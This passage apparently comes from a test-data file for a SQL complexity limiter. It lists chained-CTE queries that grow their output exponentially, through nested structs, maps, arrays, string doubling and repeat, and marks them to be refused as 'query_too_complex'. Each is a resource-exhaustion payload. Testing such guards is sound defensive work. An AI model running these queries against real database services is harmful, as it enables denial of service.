1) AS x FROM c41), c43 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c42), c44 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c43), c45 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c44), c46 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c45), c47 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c46), c48 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c47), c49 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c48), c50 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c49), c51 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c50), c52 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c51), c53 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c52), c54 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c53), c55 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c54), c56 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c55), c57 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c56), c58 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c57), c59 AS (SELECT array_resize(x, 2 * array_length(x), 1) AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT 1 AS x), c1 AS (SELECT struct(x, x) AS x FROM c0), c2 AS (SELECT struct(x, x) AS x FROM c1), c3 AS (SELECT struct(x, x) AS x FROM c2), c4 AS (SELECT struct(x, x) AS x FROM c3), c5 AS (SELECT struct(x, x) AS x FROM c4), c6 AS (SELECT struct(x, x) AS x FROM c5), c7 AS (SELECT struct(x, x) AS x FROM c6), c8 AS (SELECT struct(x, x) AS x FROM c7), c9 AS (SELECT struct(x, x) AS x FROM c8), c10 AS (SELECT struct(x, x) AS x FROM c9), c11 AS (SELECT struct(x, x) AS x FROM c10), c12 AS (SELECT struct(x, x) AS x FROM c11), c13 AS (SELECT struct(x, x) AS x FROM c12), c14 AS (SELECT struct(x, x) AS x FROM c13), c15 AS (SELECT struct(x, x) AS x FROM c14), c16 AS (SELECT struct(x, x) AS x FROM c15), c17 AS (SELECT struct(x, x) AS x FROM c16), c18 AS (SELECT struct(x, x) AS x FROM c17), c19 AS (SELECT struct(x, x) AS x FROM c18), c20 AS (SELECT struct(x, x) AS x FROM c19), c21 AS (SELECT struct(x, x) AS x FROM c20), c22 AS (SELECT struct(x, x) AS x FROM c21), c23 AS (SELECT struct(x, x) AS x FROM c22), c24 AS (SELECT struct(x, x) AS x FROM c23), c25 AS (SELECT struct(x, x) AS x FROM c24), c26 AS (SELECT struct(x, x) AS x FROM c25), c27 AS (SELECT struct(x, x) AS x FROM c26), c28 AS (SELECT struct(x, x) AS x FROM c27), c29 AS (SELECT struct(x, x) AS x FROM c28), c30 AS (SELECT struct(x, x) AS x FROM c29), c31 AS (SELECT struct(x, x) AS x FROM c30), c32 AS (SELECT struct(x, x) AS x FROM c31), c33 AS (SELECT struct(x, x) AS x FROM c32), c34 AS (SELECT struct(x, x) AS x FROM c33), c35 AS (SELECT struct(x, x) AS x FROM c34), c36 AS (SELECT struct(x, x) AS x FROM c35), c37 AS (SELECT struct(x, x) AS x FROM c36), c38 AS (SELECT struct(x, x) AS x FROM c37), c39 AS (SELECT struct(x, x) AS x FROM c38), c40 AS (SELECT struct(x, x) AS x FROM c39), c41 AS (SELECT struct(x, x) AS x FROM c40), c42 AS (SELECT struct(x, x) AS x FROM c41), c43 AS (SELECT struct(x, x) AS x FROM c42), c44 AS (SELECT struct(x, x) AS x FROM c43), c45 AS (SELECT struct(x, x) AS x FROM c44), c46 AS (SELECT struct(x, x) AS x FROM c45), c47 AS (SELECT struct(x, x) AS x FROM c46), c48 AS (SELECT struct(x, x) AS x FROM c47), c49 AS (SELECT struct(x, x) AS x FROM c48), c50 AS (SELECT struct(x, x) AS x FROM c49), c51 AS (SELECT struct(x, x) AS x FROM c50), c52 AS (SELECT struct(x, x) AS x FROM c51), c53 AS (SELECT struct(x, x) AS x FROM c52), c54 AS (SELECT struct(x, x) AS x FROM c53), c55 AS (SELECT struct(x, x) AS x FROM c54), c56 AS (SELECT struct(x, x) AS x FROM c55), c57 AS (SELECT struct(x, x) AS x FROM c56), c58 AS (SELECT struct(x, x) AS x FROM c57), c59 AS (SELECT struct(x, x) AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT 1 AS x), c1 AS (SELECT ROW(x, x) AS x FROM c0), c2 AS (SELECT ROW(x, x) AS x FROM c1), c3 AS (SELECT ROW(x, x) AS x FROM c2), c4 AS (SELECT ROW(x, x) AS x FROM c3), c5 AS (SELECT ROW(x, x) AS x FROM c4), c6 AS (SELECT ROW(x, x) AS x FROM c5), c7 AS (SELECT ROW(x, x) AS x FROM c6), c8 AS (SELECT ROW(x, x) AS x FROM c7), c9 AS (SELECT ROW(x, x) AS x FROM c8), c10 AS (SELECT ROW(x, x) AS x FROM c9), c11 AS (SELECT ROW(x, x) AS x FROM c10), c12 AS (SELECT ROW(x, x) AS x FROM c11), c13 AS (SELECT ROW(x, x) AS x FROM c12), c14 AS (SELECT ROW(x, x) AS x FROM c13), c15 AS (SELECT ROW(x, x) AS x FROM c14), c16 AS (SELECT ROW(x, x) AS x FROM c15), c17 AS (SELECT ROW(x, x) AS x FROM c16), c18 AS (SELECT ROW(x, x) AS x FROM c17), c19 AS (SELECT ROW(x, x) AS x FROM c18), c20 AS (SELECT ROW(x, x) AS x FROM c19), c21 AS (SELECT ROW(x, x) AS x FROM c20), c22 AS (SELECT ROW(x, x) AS x FROM c21), c23 AS (SELECT ROW(x, x) AS x FROM c22), c24 AS (SELECT ROW(x, x) AS x FROM c23), c25 AS (SELECT ROW(x, x) AS x FROM c24), c26 AS (SELECT ROW(x, x) AS x FROM c25), c27 AS (SELECT ROW(x, x) AS x FROM c26), c28 AS (SELECT ROW(x, x) AS x FROM c27), c29 AS (SELECT ROW(x, x) AS x FROM c28), c30 AS (SELECT ROW(x, x) AS x FROM c29), c31 AS (SELECT ROW(x, x) AS x FROM c30), c32 AS (SELECT ROW(x, x) AS x FROM c31), c33 AS (SELECT ROW(x, x) AS x FROM c32), c34 AS (SELECT ROW(x, x) AS x FROM c33), c35 AS (SELECT ROW(x, x) AS x FROM c34), c36 AS (SELECT ROW(x, x) AS x FROM c35), c37 AS (SELECT ROW(x, x) AS x FROM c36), c38 AS (SELECT ROW(x, x) AS x FROM c37), c39 AS (SELECT ROW(x, x) AS x FROM c38), c40 AS (SELECT ROW(x, x) AS x FROM c39), c41 AS (SELECT ROW(x, x) AS x FROM c40), c42 AS (SELECT ROW(x, x) AS x FROM c41), c43 AS (SELECT ROW(x, x) AS x FROM c42), c44 AS (SELECT ROW(x, x) AS x FROM c43), c45 AS (SELECT ROW(x, x) AS x FROM c44), c46 AS (SELECT ROW(x, x) AS x FROM c45), c47 AS (SELECT ROW(x, x) AS x FROM c46), c48 AS (SELECT ROW(x, x) AS x FROM c47), c49 AS (SELECT ROW(x, x) AS x FROM c48), c50 AS (SELECT ROW(x, x) AS x FROM c49), c51 AS (SELECT ROW(x, x) AS x FROM c50), c52 AS (SELECT ROW(x, x) AS x FROM c51), c53 AS (SELECT ROW(x, x) AS x FROM c52), c54 AS (SELECT ROW(x, x) AS x FROM c53), c55 AS (SELECT ROW(x, x) AS x FROM c54), c56 AS (SELECT ROW(x, x) AS x FROM c55), c57 AS (SELECT ROW(x, x) AS x FROM c56), c58 AS (SELECT ROW(x, x) AS x FROM c57), c59 AS (SELECT ROW(x, x) AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT 1 AS x), c1 AS (SELECT {a: x, b: x} AS x FROM c0), c2 AS (SELECT {a: x, b: x} AS x FROM c1), c3 AS (SELECT {a: x, b: x} AS x FROM c2), c4 AS (SELECT {a: x, b: x} AS x FROM c3), c5 AS (SELECT {a: x, b: x} AS x FROM c4), c6 AS (SELECT {a: x, b: x} AS x FROM c5), c7 AS (SELECT {a: x, b: x} AS x FROM c6), c8 AS (SELECT {a: x, b: x} AS x FROM c7), c9 AS (SELECT {a: x, b: x} AS x FROM c8), c10 AS (SELECT {a: x, b: x} AS x FROM c9), c11 AS (SELECT {a: x, b: x} AS x FROM c10), c12 AS (SELECT {a: x, b: x} AS x FROM c11), c13 AS (SELECT {a: x, b: x} AS x FROM c12), c14 AS (SELECT {a: x, b: x} AS x FROM c13), c15 AS (SELECT {a: x, b: x} AS x FROM c14), c16 AS (SELECT {a: x, b: x} AS x FROM c15), c17 AS (SELECT {a: x, b: x} AS x FROM c16), c18 AS (SELECT {a: x, b: x} AS x FROM c17), c19 AS (SELECT {a: x, b: x} AS x FROM c18), c20 AS (SELECT {a: x, b: x} AS x FROM c19), c21 AS (SELECT {a: x, b: x} AS x FROM c20), c22 AS (SELECT {a: x, b: x} AS x FROM c21), c23 AS (SELECT {a: x, b: x} AS x FROM c22), c24 AS (SELECT {a: x, b: x} AS x FROM c23), c25 AS (SELECT {a: x, b: x} AS x FROM c24), c26 AS (SELECT {a: x, b: x} AS x FROM c25), c27 AS (SELECT {a: x, b: x} AS x FROM c26), c28 AS (SELECT {a: x, b: x} AS x FROM c27), c29 AS (SELECT {a: x, b: x} AS x FROM c28), c30 AS (SELECT {a: x, b: x} AS x FROM c29), c31 AS (SELECT {a: x, b: x} AS x FROM c30), c32 AS (SELECT {a: x, b: x} AS x FROM c31), c33 AS (SELECT {a: x, b: x} AS x FROM c32), c34 AS (SELECT {a: x, b: x} AS x FROM c33), c35 AS (SELECT {a: x, b: x} AS x FROM c34), c36 AS (SELECT {a: x, b: x} AS x FROM c35), c37 AS (SELECT {a: x, b: x} AS x FROM c36), c38 AS (SELECT {a: x, b: x} AS x FROM c37), c39 AS (SELECT {a: x, b: x} AS x FROM c38), c40 AS (SELECT {a: x, b: x} AS x FROM c39), c41 AS (SELECT {a: x, b: x} AS x FROM c40), c42 AS (SELECT {a: x, b: x} AS x FROM c41), c43 AS (SELECT {a: x, b: x} AS x FROM c42), c44 AS (SELECT {a: x, b: x} AS x FROM c43), c45 AS (SELECT {a: x, b: x} AS x FROM c44), c46 AS (SELECT {a: x, b: x} AS x FROM c45), c47 AS (SELECT {a: x, b: x} AS x FROM c46), c48 AS (SELECT {a: x, b: x} AS x FROM c47), c49 AS (SELECT {a: x, b: x} AS x FROM c48), c50 AS (SELECT {a: x, b: x} AS x FROM c49), c51 AS (SELECT {a: x, b: x} AS x FROM c50), c52 AS (SELECT {a: x, b: x} AS x FROM c51), c53 AS (SELECT {a: x, b: x} AS x FROM c52), c54 AS (SELECT {a: x, b: x} AS x FROM c53), c55 AS (SELECT {a: x, b: x} AS x FROM c54), c56 AS (SELECT {a: x, b: x} AS x FROM c55), c57 AS (SELECT {a: x, b: x} AS x FROM c56), c58 AS (SELECT {a: x, b: x} AS x FROM c57), c59 AS (SELECT {a: x, b: x} AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT 1 AS x), c1 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c0), c2 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c1), c3 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c2), c4 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c3), c5 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c4), c6 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c5), c7 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c6), c8 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c7), c9 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c8), c10 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c9), c11 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c10), c12 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c11), c13 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c12), c14 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c13), c15 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c14), c16 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c15), c17 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c16), c18 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c17), c19 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c18), c20 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c19), c21 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c20), c22 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c21), c23 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c22), c24 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c23), c25 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c24), c26 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c25), c27 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c26), c28 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c27), c29 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c28), c30 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c29), c31 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c30), c32 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c31), c33 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c32), c34 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c33), c35 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c34), c36 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c35), c37 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c36), c38 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c37), c39 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c38), c40 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c39), c41 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c40), c42 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c41), c43 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c42), c44 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c43), c45 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c44), c46 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c45), c47 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c46), c48 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c47), c49 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c48), c50 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c49), c51 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c50), c52 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c51), c53 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c52), c54 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c53), c55 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c54), c56 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c55), c57 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c56), c58 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c57), c59 AS (SELECT named_struct('a', x, 'b', x) AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT 1 AS x), c1 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c0), c2 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c1), c3 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c2), c4 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c3), c5 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c4), c6 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c5), c7 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c6), c8 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c7), c9 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c8), c10 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c9), c11 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c10), c12 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c11), c13 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c12), c14 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c13), c15 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c14), c16 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c15), c17 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c16), c18 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c17), c19 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c18), c20 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c19), c21 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c20), c22 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c21), c23 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c22), c24 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c23), c25 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c24), c26 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c25), c27 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c26), c28 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c27), c29 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c28), c30 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c29), c31 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c30), c32 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c31), c33 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c32), c34 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c33), c35 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c34), c36 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c35), c37 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c36), c38 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c37), c39 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c38), c40 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c39), c41 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c40), c42 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c41), c43 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c42), c44 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c43), c45 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c44), c46 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c45), c47 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c46), c48 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c47), c49 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c48), c50 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c49), c51 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c50), c52 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c51), c53 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c52), c54 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c53), c55 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c54), c56 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c55), c57 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c56), c58 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c57), c59 AS (SELECT MAP {'a': x, 'b': x} AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT [1] AS x), c1 AS (SELECT arrays_zip(x, x) AS x FROM c0), c2 AS (SELECT arrays_zip(x, x) AS x FROM c1), c3 AS (SELECT arrays_zip(x, x) AS x FROM c2), c4 AS (SELECT arrays_zip(x, x) AS x FROM c3), c5 AS (SELECT arrays_zip(x, x) AS x FROM c4), c6 AS (SELECT arrays_zip(x, x) AS x FROM c5), c7 AS (SELECT arrays_zip(x, x) AS x FROM c6), c8 AS (SELECT arrays_zip(x, x) AS x FROM c7), c9 AS (SELECT arrays_zip(x, x) AS x FROM c8), c10 AS (SELECT arrays_zip(x, x) AS x FROM c9), c11 AS (SELECT arrays_zip(x, x) AS x FROM c10), c12 AS (SELECT arrays_zip(x, x) AS x FROM c11), c13 AS (SELECT arrays_zip(x, x) AS x FROM c12), c14 AS (SELECT arrays_zip(x, x) AS x FROM c13), c15 AS (SELECT arrays_zip(x, x) AS x FROM c14), c16 AS (SELECT arrays_zip(x, x) AS x FROM c15), c17 AS (SELECT arrays_zip(x, x) AS x FROM c16), c18 AS (SELECT arrays_zip(x, x) AS x FROM c17), c19 AS (SELECT arrays_zip(x, x) AS x FROM c18), c20 AS (SELECT arrays_zip(x, x) AS x FROM c19), c21 AS (SELECT arrays_zip(x, x) AS x FROM c20), c22 AS (SELECT arrays_zip(x, x) AS x FROM c21), c23 AS (SELECT arrays_zip(x, x) AS x FROM c22), c24 AS (SELECT arrays_zip(x, x) AS x FROM c23), c25 AS (SELECT arrays_zip(x, x) AS x FROM c24), c26 AS (SELECT arrays_zip(x, x) AS x FROM c25), c27 AS (SELECT arrays_zip(x, x) AS x FROM c26), c28 AS (SELECT arrays_zip(x, x) AS x FROM c27), c29 AS (SELECT arrays_zip(x, x) AS x FROM c28), c30 AS (SELECT arrays_zip(x, x) AS x FROM c29), c31 AS (SELECT arrays_zip(x, x) AS x FROM c30), c32 AS (SELECT arrays_zip(x, x) AS x FROM c31), c33 AS (SELECT arrays_zip(x, x) AS x FROM c32), c34 AS (SELECT arrays_zip(x, x) AS x FROM c33), c35 AS (SELECT arrays_zip(x, x) AS x FROM c34), c36 AS (SELECT arrays_zip(x, x) AS x FROM c35), c37 AS (SELECT arrays_zip(x, x) AS x FROM c36), c38 AS (SELECT arrays_zip(x, x) AS x FROM c37), c39 AS (SELECT arrays_zip(x, x) AS x FROM c38), c40 AS (SELECT arrays_zip(x, x) AS x FROM c39), c41 AS (SELECT arrays_zip(x, x) AS x FROM c40), c42 AS (SELECT arrays_zip(x, x) AS x FROM c41), c43 AS (SELECT arrays_zip(x, x) AS x FROM c42), c44 AS (SELECT arrays_zip(x, x) AS x FROM c43), c45 AS (SELECT arrays_zip(x, x) AS x FROM c44), c46 AS (SELECT arrays_zip(x, x) AS x FROM c45), c47 AS (SELECT arrays_zip(x, x) AS x FROM c46), c48 AS (SELECT arrays_zip(x, x) AS x FROM c47), c49 AS (SELECT arrays_zip(x, x) AS x FROM c48), c50 AS (SELECT arrays_zip(x, x) AS x FROM c49), c51 AS (SELECT arrays_zip(x, x) AS x FROM c50), c52 AS (SELECT arrays_zip(x, x) AS x FROM c51), c53 AS (SELECT arrays_zip(x, x) AS x FROM c52), c54 AS (SELECT arrays_zip(x, x) AS x FROM c53), c55 AS (SELECT arrays_zip(x, x) AS x FROM c54), c56 AS (SELECT arrays_zip(x, x) AS x FROM c55), c57 AS (SELECT arrays_zip(x, x) AS x FROM c56), c58 AS (SELECT arrays_zip(x, x) AS x FROM c57), c59 AS (SELECT arrays_zip(x, x) AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT event_id AS x FROM events), c1 AS (SELECT x || x AS x FROM c0), c2 AS (SELECT x || x AS x FROM c1), c3 AS (SELECT x || x AS x FROM c2), c4 AS (SELECT x || x AS x FROM c3), c5 AS (SELECT x || x AS x FROM c4), c6 AS (SELECT x || x AS x FROM c5), c7 AS (SELECT x || x AS x FROM c6), c8 AS (SELECT x || x AS x FROM c7), c9 AS (SELECT x || x AS x FROM c8), c10 AS (SELECT x || x AS x FROM c9), c11 AS (SELECT x || x AS x FROM c10), c12 AS (SELECT x || x AS x FROM c11), c13 AS (SELECT x || x AS x FROM c12), c14 AS (SELECT x || x AS x FROM c13), c15 AS (SELECT x || x AS x FROM c14), c16 AS (SELECT x || x AS x FROM c15), c17 AS (SELECT x || x AS x FROM c16), c18 AS (SELECT x || x AS x FROM c17), c19 AS (SELECT x || x AS x FROM c18), c20 AS (SELECT x || x AS x FROM c19), c21 AS (SELECT x || x AS x FROM c20), c22 AS (SELECT x || x AS x FROM c21), c23 AS (SELECT x || x AS x FROM c22), c24 AS (SELECT x || x AS x FROM c23), c25 AS (SELECT x || x AS x FROM c24), c26 AS (SELECT x || x AS x FROM c25), c27 AS (SELECT x || x AS x FROM c26), c28 AS (SELECT x || x AS x FROM c27), c29 AS (SELECT x || x AS x FROM c28), c30 AS (SELECT x || x AS x FROM c29), c31 AS (SELECT x || x AS x FROM c30), c32 AS (SELECT x || x AS x FROM c31), c33 AS (SELECT x || x AS x FROM c32), c34 AS (SELECT x || x AS x FROM c33), c35 AS (SELECT x || x AS x FROM c34), c36 AS (SELECT x || x AS x FROM c35), c37 AS (SELECT x || x AS x FROM c36), c38 AS (SELECT x || x AS x FROM c37), c39 AS (SELECT x || x AS x FROM c38), c40 AS (SELECT x || x AS x FROM c39), c41 AS (SELECT x || x AS x FROM c40), c42 AS (SELECT x || x AS x FROM c41), c43 AS (SELECT x || x AS x FROM c42), c44 AS (SELECT x || x AS x FROM c43), c45 AS (SELECT x || x AS x FROM c44), c46 AS (SELECT x || x AS x FROM c45), c47 AS (SELECT x || x AS x FROM c46), c48 AS (SELECT x || x AS x FROM c47), c49 AS (SELECT x || x AS x FROM c48), c50 AS (SELECT x || x AS x FROM c49), c51 AS (SELECT x || x AS x FROM c50), c52 AS (SELECT x || x AS x FROM c51), c53 AS (SELECT x || x AS x FROM c52), c54 AS (SELECT x || x AS x FROM c53), c55 AS (SELECT x || x AS x FROM c54), c56 AS (SELECT x || x AS x FROM c55), c57 AS (SELECT x || x AS x FROM c56), c58 AS (SELECT x || x AS x FROM c57), c59 AS (SELECT x || x AS x FROM c58) SELECT x FROM c59
# Twelve, with more at each: what is made is refused, not how it is written.
= function_limit | query_too_complex
WITH c0 AS (SELECT 'x' AS x), c1 AS (SELECT repeat(x, 9) AS x FROM c0), c2 AS (SELECT repeat(x, 9) AS x FROM c1), c3 AS (SELECT repeat(x, 9) AS x FROM c2), c4 AS (SELECT repeat(x, 9) AS x FROM c3), c5 AS (SELECT repeat(x, 9) AS x FROM c4), c6 AS (SELECT repeat(x, 9) AS x FROM c5), c7 AS (SELECT repeat(x, 9) AS x FROM c6), c8 AS (SELECT repeat(x, 9) AS x FROM c7), c9 AS (SELECT repeat(x, 9) AS x FROM c8), c10 AS (SELECT repeat(x, 9) AS x FROM c9), c11 AS (SELECT repeat(x, 9) AS x FROM c10) SELECT x FROM c11
WITH c0 AS (SELECT 'x' AS x), c1 AS (SELECT replace(x, 'x', 'xxxxxxxxx') AS x FROM c0), c2 AS (SELECT replace(x, 'x', 'xxxxxxxxx') AS x FROM c1), c3 AS (SELECT replace(x, 'x', 'xxxxxxxxx') AS x FROM c2), c4 AS (SELECT replace(x, 'x', 'xxxxxxxxx') AS x FROM c3), c5 AS (SELECT replace(x, 'x', 'xxxxxxxxx') AS x FROM c4), c6 AS (SELECT replace(x, 'x', 'xxxxxxxxx') AS x FROM c5), c7 AS (SELECT replace(x, 'x', 'xxxxxxxxx') AS x FROM c6), c8 AS (SELECT replace(x, 'x', 'xxxxxxxxx') AS x FROM c7), c9 AS (SELECT replace(x, 'x', 'xxxxxxxxx') AS x FROM c8), c10 AS (SELECT replace(x, 'x', 'xxxxxxxxx') AS x FROM c9), c11 AS (SELECT replace(x, 'x', 'xxxxxxxxx') AS x FROM c10) SELECT x FROM c11
WITH c0 AS (SELECT 'x' AS x), c1 AS (SELECT overlay(x PLACING 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' FROM 1 FOR 0) || x || x || x AS x FROM c0), c2 AS (SELECT overlay(x PLACING 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' FROM 1 FOR 0) || x || x || x AS x FROM c1), c3 AS (SELECT overlay(x PLACING 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' FROM 1 FOR 0) || x || x || x AS x FROM c2), c4 AS (SELECT overlay(x PLACING 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' FROM 1 FOR 0) || x || x || x AS x FROM c3), c5 AS (SELECT overlay(x PLACING 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' FROM 1 FOR 0) || x || x || x AS x FROM c4), c6 AS (SELECT overlay(x PLACING 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' FROM 1 FOR 0) || x || x || x AS x FROM c5), c7 AS (SELECT overlay(x PLACING 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' FROM 1 FOR 0) || x || x || x AS x FROM c6), c8 AS (SELECT overlay(x PLACING 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' FROM 1 FOR 0) || x || x || x AS x FROM c7), c9 AS (SELECT overlay(x PLACING 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' FROM 1 FOR 0) || x || x || x AS x FROM c8), c10 AS (SELECT overlay(x PLACING 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' FROM 1 FOR 0) || x || x || x AS x FROM c9), c11 AS (SELECT overlay(x PLACING 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' FROM 1 FOR 0) || x || x || x AS x FROM c10) SELECT x FROM c11
WITH c0 AS (SELECT [1] AS x), c1 AS (SELECT array_repeat(x, 9) AS x FROM c0), c2 AS (SELECT array_repeat(x, 9) AS x FROM c1), c3 AS (SELECT array_repeat(x, 9) AS x FROM c2), c4 AS (SELECT array_repeat(x, 9) AS x FROM c3), c5 AS (SELECT array_repeat(x, 9) AS x FROM c4), c6 AS (SELECT array_repeat(x, 9) AS x FROM c5), c7 AS (SELECT array_repeat(x, 9) AS x FROM c6), c8 AS (SELECT array_repeat(x, 9) AS x FROM c7), c9 AS (SELECT array_repeat(x, 9) AS x FROM c8), c10 AS (SELECT array_repeat(x, 9) AS x FROM c9), c11 AS (SELECT array_repeat(x, 9) AS x FROM c10) SELECT x FROM c11
